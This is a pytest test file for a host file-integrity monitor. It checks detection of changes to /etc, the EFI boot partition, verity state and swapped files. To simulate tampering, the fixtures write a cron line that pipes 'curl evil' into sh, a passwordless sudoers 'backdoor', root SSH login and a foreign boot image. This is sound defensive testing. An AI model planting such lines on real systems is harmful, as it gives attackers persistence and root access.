"""File integrity (cerulean.agent.integrity): scans, baselines from the build manifest,
and every kind of change."""

from __future__ import annotations

import hashlib
import os
import threading
from pathlib import Path
from typing import Any

import pytest

from cerulean.agent import integrity
from cerulean.build.manifest import manifest_entries
from cerulean.build.system import export_tree
from cerulean.build.tree import Tree

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="chown needs root")


def shipped(root: Path) -> Tree:
    """What an image ships below /etc, written to *root* the way a build writes it."""
    tree = Tree()
    for d in ("etc", "etc/ssh", "etc/sudoers.d", "usr", "usr/bin"):
        tree.add_dir(d)
    tree.add_file("etc/hostname", b"cerulean\n", package="base-files")
    tree.add_file("etc/ssh/sshd_config", b"PermitRootLogin no\n", package="openssh-server")
    tree.add_file("etc/shadow", b"root:*:20000:0:99999:7:::\n", mode=0o640, gid=42)
    tree.add_file("etc/sudoers.d/README", b"see sudoers(5)\n", mode=0o440, package="sudo")
    tree.add_symlink("etc/localtime", "/usr/share/zoneinfo/Etc/UTC", package="tzdata")
    tree.add_file("usr/bin/sudo", b"\x7fELF sudo", mode=0o4755, package="sudo")
    root.mkdir(exist_ok=True)
    export_tree(tree, root)
    return tree


@needs_root
def test_a_fresh_image_matches_its_build_manifest(tmp_path: Path) -> None:
    tree = shipped(tmp_path / "host")
    baseline = integrity.from_manifest(manifest_entries(tree), under=["/etc"])
    assert "/usr/bin/sudo" not in baseline and baseline["/etc/shadow"].mode == 0o640
    now = integrity.scan(tmp_path / "host", ["/etc"])
    assert set(now) == set(baseline)
    assert integrity.compare(baseline, now) == []


@needs_root
def test_every_kind_of_change_is_reported_with_its_package(tmp_path: Path) -> None:
    host = tmp_path / "host"
    tree = shipped(host)
    baseline = integrity.from_manifest(manifest_entries(tree), under=["/etc"])
    (host / "etc/ssh/sshd_config").write_bytes(b"PermitRootLogin yes\n")
    os.chmod(host / "etc/shadow", 0o644)
    os.chown(host / "etc/sudoers.d/README", 1000, 0)
    (host / "etc/localtime").unlink()
    (host / "etc/localtime").symlink_to("/usr/share/zoneinfo/Europe/Paris")
    (host / "etc/hostname").unlink()
    (host / "etc/hostname").mkdir()
    (host / "etc/sudoers.d/backdoor").write_text("ops ALL=(ALL) NOPASSWD: ALL\n")
    changes = {c.path: c for c in integrity.compare(baseline, integrity.scan(host, ["/etc"]))}
    assert {p: c.what for p, c in changes.items()} == {
        "/etc/ssh/sshd_config": ("content",),
        "/etc/shadow": ("mode",),
        "/etc/sudoers.d/README": ("owner",),
        "/etc/localtime": ("target",),
        "/etc/hostname": ("type", "mode"),
        "/etc/sudoers.d/backdoor": ("added",),
    }
    sshd = changes["/etc/ssh/sshd_config"]
    assert sshd.package == "openssh-server"
    assert sshd.old is not None and sshd.new is not None
    assert sshd.old.sha256 == hashlib.sha256(b"PermitRootLogin no\n").hexdigest()
    assert sshd.new.sha256 == hashlib.sha256(b"PermitRootLogin yes\n").hexdigest()
    doc = changes["/etc/sudoers.d/README"].to_json()
    assert doc["old"]["uid"] == 0 and doc["new"]["uid"] == 1000 and doc["package"] == "sudo"
    assert changes["/etc/sudoers.d/backdoor"].to_json()["old"] is None
    (host / "etc/ssh/sshd_config").unlink()
    gone = integrity.compare(baseline, integrity.scan(host, ["/etc"]))
    assert any(c.path == "/etc/ssh/sshd_config" and c.what == ("removed",) for c in gone)


def test_scans_never_follow_links_or_leave_their_tree(tmp_path: Path) -> None:
    host = tmp_path / "host"
    (host / "etc").mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text("not part of /etc")
    (host / "etc/link-to-dir").symlink_to(outside)
    (host / "etc/link-to-file").symlink_to(outside / "secret")
    (host / "etc/cache").mkdir()
    (host / "etc/cache/big").write_text("skip me")
    now = integrity.scan(host, ["/etc", "/missing"], exclude=["/etc/cache"])
    assert set(now) == {"/etc", "/etc/link-to-dir", "/etc/link-to-file"}
    assert now["/etc/link-to-dir"].kind == "symlink"
    assert now["/etc/link-to-dir"].target == str(outside)


def test_first_scan_baseline_with_dpkg_owners(tmp_path: Path) -> None:
    """On a server that is not a Cerulean image: the first scan is the baseline, and the
    owning packages come from dpkg's file lists."""
    host = tmp_path / "host"
    (host / "etc/cron.d").mkdir(parents=True)
    (host / "etc/cron.d/e2scrub_all").write_text("30 3 * * 0 root e2scrub_all\n")
    info = host / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (info / "e2fsprogs.list").write_text("/.\n/etc\n/etc/cron.d\n/etc/cron.d/e2scrub_all\n")
    (info / "libc6:amd64.list").write_text("/.\n/etc\n/etc/ld.so.conf.d\n")
    owners = integrity.dpkg_owners(host)
    assert owners["/etc/cron.d/e2scrub_all"] == "e2fsprogs" and owners["/etc"] == "e2fsprogs"
    assert owners["/etc/ld.so.conf.d"] == "libc6"
    first = integrity.scan(host, ["/etc"], packages=owners)
    (host / "etc/cron.d/e2scrub_all").write_text("* * * * * root curl evil | sh\n")
    (change,) = integrity.compare(first, integrity.scan(host, ["/etc"], packages=owners))
    assert change.path == "/etc/cron.d/e2scrub_all" and change.package == "e2fsprogs"


def test_the_image_manifest_is_the_baseline_and_changes_are_audited_once(
        tmp_path: Path) -> None:
    from cerulean.agent.audit import AuditLog

    root = tmp_path / "host"
    shipped(root)
    info = root / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (info / "openssh-server.list").write_text("/etc/ssh\n/etc/ssh/sshd_config\n")
    manifest = root / integrity.IMAGE_MANIFEST
    manifest.parent.mkdir(parents=True, exist_ok=True)
    manifest.write_bytes(integrity.image_manifest(root, image="vm", arch="amd64", version="1"))
    assert manifest.read_bytes() == integrity.image_manifest(root, image="vm", arch="amd64",
                                                             version="1")  # reproducible
    base = integrity.load_baseline(root)
    assert base.source == "image manifest" and base.dirs == ("/etc",)
    assert "/etc/ssh/sshd_config" in base.files and not (root / integrity.FIRST_SCAN).exists()

    audit = AuditLog(tmp_path / "audit.jsonl")
    assert integrity.periodic_scan(root, audit) == (0, 0)
    (root / "etc/ssh/sshd_config").write_text("PermitRootLogin yes\n")
    assert integrity.periodic_scan(root, audit) == (1, 1)
    assert integrity.periodic_scan(root, audit) == (1, 0)  # reported once
    (root / "etc/ssh/sshd_config").write_text("PermitRootLogin prohibit-password\n")
    (root / "etc/motd").write_text("hi\n")
    assert integrity.periodic_scan(root, audit) == (2, 2)  # a new state is new again
    entries = list(audit.entries())
    assert [e["action"] for e in entries] == ["integrity.change"] * 3
    first = entries[0]["detail"]
    assert (first["path"], first["what"], first["package"], first["baseline"]) == (
        "/etc/ssh/sshd_config", ["content"], "openssh-server", "image manifest")
    assert first["old"]["sha256"] == hashlib.sha256(b"PermitRootLogin no\n").hexdigest()


def test_without_an_image_manifest_the_first_scan_is_kept_and_said(tmp_path: Path) -> None:
    root = tmp_path / "host"
    shipped(root)
    base = integrity.load_baseline(root, now="2026-11-27T02:00:00+00:00")
    assert base.source == "first scan" and (root / integrity.FIRST_SCAN).exists()
    (root / "etc/hostname").write_text("changed\n")
    again = integrity.load_baseline(root, now="later")
    assert again.source == "first scan" and again.made == "2026-11-27T02:00:00+00:00"
    changes = integrity.compare(again.files, integrity.scan(root, again.dirs))
    assert [(c.path, c.what) for c in changes] == [("/etc/hostname", ("content",))]
    (root / integrity.FIRST_SCAN).write_text("{not json")
    with pytest.raises(integrity.IntegrityError, match="cannot be read"):
        integrity.load_baseline(root)


@pytest.mark.parametrize(("rc", "out", "err", "state"), [
    (0, "0 352256 verity V\n", "", "verified"),
    (0, "0 352256 verity C\n", "", "corrupted"),
    (0, "0 2048 linear \n", "", "none"),
    (1, "", "Device does not exist.\nCommand failed.\n", "none"),
    (1, "", "/dev/mapper/control: open failed: Permission denied\n", "unknown"),
])
def test_usr_verity_state(rc: int, out: str, err: str, state: str) -> None:
    import subprocess

    def run(argv: list[str], **kw: object) -> subprocess.CompletedProcess[str]:
        assert argv == ["dmsetup", "status", "usr"]
        return subprocess.CompletedProcess(argv, rc, out, err)

    assert integrity.usr_verity(run) == state


def _esp(root: Path) -> Path:
    esp = root / "efi"
    for d in ("EFI/BOOT", "EFI/systemd", "EFI/Linux", "loader"):
        (esp / d).mkdir(parents=True)
    (esp / "EFI/BOOT/BOOTX64.EFI").write_bytes(b"MZ systemd-boot")
    (esp / "EFI/systemd/systemd-bootx64.efi").write_bytes(b"MZ systemd-boot")
    (esp / "EFI/Linux/cerulean_1+3.efi").write_bytes(b"MZ uki of release 1")
    (esp / "loader/loader.conf").write_text("timeout 0\neditor no\n")
    return esp


def test_the_esp_against_its_boot_manifest(tmp_path: Path) -> None:
    root = tmp_path / "host"
    esp = _esp(root)
    (root / integrity.BOOT_MANIFEST).parent.mkdir(parents=True)
    (root / integrity.BOOT_MANIFEST).write_bytes(integrity.boot_manifest(esp, "1"))
    assert integrity.boot_changes(root, Path("/efi")) == integrity.BootCheck("/efi", True, ())
    # What a booting machine does: bless the entry (a rename), write a random seed.
    (esp / "EFI/Linux/cerulean_1+3.efi").rename(esp / "EFI/Linux/cerulean_1.efi")
    (esp / "loader/random-seed").write_bytes(os.urandom(32))
    assert integrity.boot_changes(root, Path("/efi")).changes == ()
    # An update installs release 2's UKI, checked against its signed hash, and records it.
    uki2 = b"MZ uki of release 2"
    (esp / "EFI/Linux/cerulean_2+3.efi").write_bytes(uki2)
    assert integrity.record_uki(root, "2", hashlib.sha256(uki2).hexdigest())
    assert integrity.boot_changes(root, Path("/efi")).changes == ()
    # Tampering: the loader changed, a foreign UKI, the loader config gone.
    (esp / "EFI/BOOT/BOOTX64.EFI").write_bytes(b"MZ something else")
    (esp / "EFI/Linux/evil.efi").write_bytes(b"MZ not a release")
    (esp / "loader/loader.conf").unlink()
    got = {c.path: c for c in integrity.boot_changes(root, Path("/efi")).changes}
    assert {p: c.what for p, c in got.items()} == {
        "/efi/EFI/BOOT/BOOTX64.EFI": ("content",),
        "/efi/EFI/Linux/evil.efi": ("unknown-uki",),
        "/efi/loader/loader.conf": ("removed",)}
    loader = got["/efi/EFI/BOOT/BOOTX64.EFI"]
    assert loader.old is not None and loader.new is not None
    assert loader.old.sha256 == hashlib.sha256(b"MZ systemd-boot").hexdigest()
    assert loader.new.sha256 == hashlib.sha256(b"MZ something else").hexdigest()


def test_hosts_without_a_boot_manifest_skip_the_esp(tmp_path: Path) -> None:
    _esp(tmp_path)
    assert integrity.boot_changes(tmp_path, Path("/efi")) == integrity.BootCheck(None, False)
    assert not integrity.record_uki(tmp_path, "2", "0" * 64)


def test_the_esp_is_found_where_a_vfat_is_mounted(tmp_path: Path) -> None:
    (tmp_path / "proc").mkdir()
    (tmp_path / "proc/mounts").write_text(
        "/dev/vda1 / ext4 rw 0 0\nsystemd-1 /efi autofs rw 0 0\n/dev/vda2 /efi vfat rw 0 0\n")
    assert integrity.find_esp(tmp_path) == Path("/efi")
    (tmp_path / "proc/mounts").write_text("/dev/vda1 / ext4 rw 0 0\n")
    assert integrity.find_esp(tmp_path) is None


def _in_thread(fn: Any, fifo: Path, seconds: float = 5.0) -> Any:
    """fn() in a thread; fails the test (instead of hanging it) when it blocks on *fifo*."""
    out: list[Any] = []
    t = threading.Thread(target=lambda: out.append(fn()), daemon=True)
    t.start()
    t.join(seconds)
    if t.is_alive():  # a blocked open returns once a writer comes and goes
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        pytest.fail("the scan blocked on a FIFO")
    return out[0]


def test_a_file_swapped_for_a_fifo_or_a_link_is_recorded_as_what_it_is(
        tmp_path: Path) -> None:
    """Listed as a regular file, then swapped before it is read: the scan neither hangs
    on the FIFO nor hashes the link's target as if it were the file."""
    root = tmp_path / "host"
    (root / "etc").mkdir(parents=True)
    f = root / "etc/swapped"
    f.write_text("x")
    listed = os.lstat(f)
    f.unlink()
    os.mkfifo(f)
    s = _in_thread(lambda: integrity.state_of(root, "/etc/swapped", listed), f)
    assert (s.kind, s.sha256) == ("other", None)
    f.unlink()
    (tmp_path / "secret").write_text("the target's bytes")
    f.symlink_to(tmp_path / "secret")
    s = integrity.state_of(root, "/etc/swapped", listed)
    assert (s.kind, s.target, s.sha256) == ("symlink", str(tmp_path / "secret"), None)


def test_an_unreadable_file_is_counted_and_the_scan_goes_on(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from cerulean.agent.audit import AuditLog

    root = tmp_path / "host"
    shipped(root)
    integrity.load_baseline(root, now="then")  # the first scan, before anything is wrong
    real_open = os.open

    def refuse(path: Any, flags: int, *a: Any, **k: Any) -> int:
        if str(path).endswith("/etc/ssh/sshd_config"):
            raise PermissionError(13, "Permission denied")
        return real_open(path, flags, *a, **k)

    monkeypatch.setattr(os, "open", refuse)
    (root / "etc/hostname").write_text("changed\n")
    problems: list[integrity.Problem] = []
    _base, changes = integrity.since_baseline(root, problems=problems)
    assert problems == [integrity.Problem("/etc/ssh/sshd_config", "Permission denied")]
    # what was read still counts; what was not is unknown, not "removed"
    assert [(c.path, c.what) for c in changes] == [("/etc/hostname", ("content",))]

    audit = AuditLog(tmp_path / "audit.jsonl")
    assert integrity.periodic_scan(root, audit, clock=lambda: 1000.0) == (1, 1)
    assert integrity.periodic_scan(root, audit, clock=lambda: 2000.0) == (1, 0)
    actions = [e["action"] for e in audit.entries()]
    assert actions == ["integrity.change", "alert.integrity-scan-incomplete"]  # said once
    alert = list(audit.entries())[1]["detail"]
    assert alert["rule"] == "integrity-scan-incomplete" and alert["priority"] == "warning"
    assert alert["evidence"] == {"errors": 1, "paths": [
        {"path": "/etc/ssh/sshd_config", "error": "Permission denied"}]}
    assert "could not read 1 path (first: /etc/ssh/sshd_config" in alert["message"]
    fams = {f.name: f.samples for f in integrity.metric_families(root)}
    assert fams["cerulean_integrity_scan_errors"] == [({}, 1.0)]
    assert fams["cerulean_integrity_last_scan_timestamp_seconds"] == [({}, 2000.0)]
